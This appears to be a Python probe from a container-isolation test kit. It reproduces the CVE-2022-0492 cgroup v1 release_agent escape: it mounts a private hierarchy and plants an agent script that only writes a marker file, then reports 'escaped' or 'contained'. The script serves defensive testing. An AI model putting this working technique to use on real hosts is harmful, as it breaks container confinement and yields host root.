#!/usr/bin/python3
# Goal:    have the kernel run a program as host root through a cgroup v1 release_agent
# Models:  CVE-2022-0492
# Oracle:  marker
# Tier:    core
# Needs:   root
# Note:    uses a private named hierarchy that it creates and removes; no existing cgroup is touched
from ctk import *

mntns()
cg = PROJ + "/cg"
os.mkdir(cg)
ra = PDIR + "/ra.sh"
open(ra, "w").write("#!/bin/sh\nprintf %%s %s > %s\n" % (NONCE, M))
os.chmod(ra, 0o755)
mount("ctk", cg, "cgroup", 0, "none,name=ctk" + NONCE[-8:])
try:
    open(cg + "/release_agent", "w").write(ra)
    os.mkdir(cg + "/x")
    open(cg + "/x/notify_on_release", "w").write("1")
    p = os.fork()
    if p == 0:
        try:
            open(cg + "/x/cgroup.procs", "w").write(str(os.getpid()))
        finally:
            os._exit(0)
    os.waitpid(p, 0)
    for _ in range(20):
        time.sleep(0.1)
        if os.path.exists(M):
            break
finally:
    try:
        os.rmdir(cg + "/x")
        time.sleep(0.5)
    except OSError:
        pass
    libc.umount2(cg.encode(), 0)
escaped("release_agent ran") if os.path.exists(M) else contained("release_agent set, marker not seen")
